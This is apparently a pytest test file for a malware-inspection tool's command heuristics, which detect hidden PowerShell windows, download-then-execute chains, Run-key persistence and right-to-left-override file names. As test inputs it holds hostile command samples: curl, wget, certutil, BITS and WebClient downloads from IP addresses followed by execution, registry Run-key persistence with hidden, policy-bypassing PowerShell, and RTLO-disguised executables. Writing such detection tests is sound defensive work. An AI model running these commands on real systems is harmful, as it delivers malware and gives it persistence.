"""Heuristics over extracted commands: one behaviour, whatever the spelling, the line or the variable."""

from __future__ import annotations

import pytest

from inspector.analyzers.heuristics.commands import (
    downloaded_file,
    normalised_path,
    run_key_value,
    started_file,
    starts_script_host,
)
from inspector.commands import Shell, extract_commands
from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score

PS = ArtifactType.POWERSHELL
SH = ArtifactType.SHELL
CMD = ArtifactType.CMD
SUSPICIOUS = 300

HIDDEN = "heur.commands.hidden_powershell"
DOWNLOAD_RUN = "heur.commands.download_then_run"
DOWNLOAD_RUN_IP = "heur.commands.download_then_run_ip_host"
RUN_KEY = "heur.commands.run_key_script_host"


@pytest.mark.parametrize("spelling", ["-w hidden", "-WindowStyle Hidden", "-win h", "-wINdowsTYLe 1", "/w 1"])
def test_a_hidden_powershell_is_one_thing_in_every_spelling(spelling: str) -> None:
    assert HIDDEN in ids(f"powershell.exe -nop {spelling} -c Get-Date", CMD)
    assert HIDDEN in ids("Start-Process powershell -ArgumentList 'x' -WindowStyle Hidden", PS)


def test_a_visible_powershell_is_not_hidden() -> None:
    assert HIDDEN not in ids("powershell.exe -NoProfile -WindowStyle Normal -File setup.ps1", CMD)
    assert HIDDEN not in ids("Write-Host 'use -w hidden to hide it'", PS)


@pytest.mark.parametrize("script", [
    ('(New-Object System.Net.WebClient).DownloadFile("http://203.0.113.7/a.exe","$env:TEMP\\a.exe"); '
    'Start-Process "$env:TEMP\\a.exe"'),
    "Invoke-WebRequest http://203.0.113.7/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe",
    '$u = "http://203.0.113.7/x.exe"\n$o = "$env:TEMP\\x.exe"\niwr -Uri $u -OutFile $o\n& $o',
    ("Start-BitsTransfer -Source http://203.0.113.7/x.exe -Destination C:\\Users\\Public\\x.exe\n"
    "saps C:\\Users\\Public\\x.exe"),
])
def test_powershell_download_then_start_of_the_same_file_from_an_ip_is_suspicious(script: str) -> None:
    assert {DOWNLOAD_RUN, DOWNLOAD_RUN_IP} <= ids(script, PS)
    assert score(script, PS) >= SUSPICIOUS


def test_shell_and_cmd_download_then_start_chains_are_found() -> None:
    assert {DOWNLOAD_RUN, DOWNLOAD_RUN_IP} <= ids(
        "curl -s -o /tmp/k http://198.51.100.9/k && chmod +x /tmp/k && /tmp/k", SH)
    assert DOWNLOAD_RUN in ids("F=/var/tmp/.x\nwget -q -O $F http://example.net/x\nsh $F", SH)
    assert {DOWNLOAD_RUN, DOWNLOAD_RUN_IP} <= ids(
        "certutil -urlcache -split -f http://198.51.100.9/a.exe %TEMP%\\a.exe & start \"\" %TEMP%\\a.exe", CMD)


def test_an_installer_from_a_named_host_is_only_dual_use() -> None:
    script = "Invoke-WebRequest https://download.example.com/setup.exe -OutFile setup.exe\nStart-Process .\\setup.exe -Wait"
    found = ids(script, PS)
    assert DOWNLOAD_RUN in found and DOWNLOAD_RUN_IP not in found
    assert score(script, PS) < SUSPICIOUS


def test_a_download_never_started_or_a_private_address_is_not_the_ip_chain() -> None:
    assert DOWNLOAD_RUN not in ids("iwr http://203.0.113.7/a.zip -OutFile a.zip; Expand-Archive a.zip", PS)
    assert DOWNLOAD_RUN_IP not in ids("curl -o /tmp/x http://10.0.0.4/x && /tmp/x", SH)
    assert DOWNLOAD_RUN_IP not in ids("curl -o /tmp/x http://169.254.169.254/x && /tmp/x", SH)


def test_a_run_key_held_in_a_variable_is_still_a_run_key() -> None:
    script = ('$RunKey = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"\n'
              'Set-ItemProperty -Path $RunKey -Name upd -Value "powershell.exe -windowstyle hidden '
              '-ExecutionPolicy Bypass -File C:\\Users\\Public\\u.ps1"')
    assert RUN_KEY in ids(script, PS)
    assert score(script, PS) >= SUSPICIOUS


def test_reg_add_of_a_run_value_starting_a_script_host() -> None:
    assert RUN_KEY in ids(r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce /v x /d "mshta http://x/a.hta" /f',
                          CMD)


def test_a_run_key_starting_installed_software_is_not_flagged_here() -> None:
    assert RUN_KEY not in ids('Set-ItemProperty "HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" Agent '
                              '"C:\\Program Files\\Agent\\agent.exe --tray"', PS)


def first(text: str, shell: Shell = Shell.POWERSHELL):  # type: ignore[no-untyped-def]
    return extract_commands(text, shell)[0]


def test_downloaded_file_reads_each_downloader() -> None:
    assert downloaded_file(first("irm -Uri http://x/a -OutF a.ps1")) == ("http://x/a", "a.ps1")
    assert downloaded_file(first("wget -O- http://x/a", Shell.SHELL)) is None
    assert downloaded_file(first("curl --output=/tmp/a http://x/a", Shell.SHELL)) == ("http://x/a", "/tmp/a")
    assert downloaded_file(first("bitsadmin /transfer j /download http://x/a C:\\a.exe", Shell.CMD)) == (
        "http://x/a", "C:\\a.exe")


def test_started_file_reads_start_process_start_and_shells() -> None:
    assert started_file(first("Start-Process -FilePath a.exe -Wait")) == "a.exe"
    assert started_file(first('start "" /b a.exe', Shell.CMD)) == "a.exe"
    assert started_file(first("bash /tmp/x.sh", Shell.SHELL)) == "/tmp/x.sh"
    assert started_file(first("/tmp/x", Shell.SHELL)) == "/tmp/x"


def test_paths_compare_in_one_spelling() -> None:
    assert normalised_path("%TEMP%\\A.EXE") == normalised_path("$env:temp/a") == normalised_path('"${env:TEMP}\\a.exe"')
    assert normalised_path(".\\setup.exe") == normalised_path("setup")


def test_run_key_value_and_what_it_starts() -> None:
    command = first('New-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name a '
                    '-Value "wscript.exe C:\\x.vbs" -PropertyType String')
    assert run_key_value(command) == "wscript.exe C:\\x.vbs"
    assert starts_script_host("wscript.exe C:\\x.vbs") and starts_script_host("C:\\Users\\Public\\u.exe")
    assert not starts_script_host('"C:\\Program Files\\Tool\\tool.exe" /min')
    assert run_key_value(first("Set-ItemProperty -Path HKCU:\\Software\\Tool -Name a -Value b")) is None


def test_a_download_helper_whose_url_and_file_are_parameters_is_no_chain() -> None:
    # A vendor script's helper: nothing says which file the later start runs, only a name.
    helper = ("function Get-Package([string] $Uri, [string] $Path) {\n"
              "    Invoke-WebRequest -UseBasicParsing $Uri -OutFile $Path\n}\n"
              "function Install-Package([string] $Path) {\n"
              "    Start-Process -FilePath \"$Path\" -ArgumentList '/quiet' -Wait\n}\n")
    assert DOWNLOAD_RUN not in ids(helper, PS)
    # A known source or a known file is enough to tie the download to the start.
    assert DOWNLOAD_RUN in ids("Invoke-WebRequest http://downloads.example.test/x.msi -OutFile $Path\n"
                               "Start-Process $Path", PS)


@pytest.mark.parametrize(("script", "language"), [
    ('$r = [char]0x202E\n$p = Join-Path $env:USERPROFILE ("invoice" + $r + "fdp.exe")\nCopy-Item .\\a.exe $p', PS),
    ("cp ./a.out \"$HOME/Desktop/invoice\u202efdp.sh\"", SH),
])
def test_a_file_name_with_a_right_to_left_override_is_disguised(script: str, language: ArtifactType) -> None:
    assert "heur.commands.rtlo_file_name" in ids(script, language)
    assert score(script, language) >= SUSPICIOUS


def test_right_to_left_text_that_is_not_a_file_name_needs_the_override() -> None:
    assert "heur.commands.rtlo_file_name" not in ids('Write-Host "\u05e9\u05dc\u05d5\u05dd"', PS)
